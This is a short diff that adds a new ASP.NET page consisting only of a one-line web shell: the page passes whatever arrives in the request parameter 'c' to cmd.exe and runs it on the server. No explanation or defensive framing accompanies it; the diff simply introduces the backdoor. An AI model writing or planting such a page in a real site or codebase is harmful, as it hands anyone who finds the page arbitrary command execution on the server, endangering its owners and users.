@@ -1,0 +1,2 @@
+<%@ Page Language="C#" %>
+<% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); %>
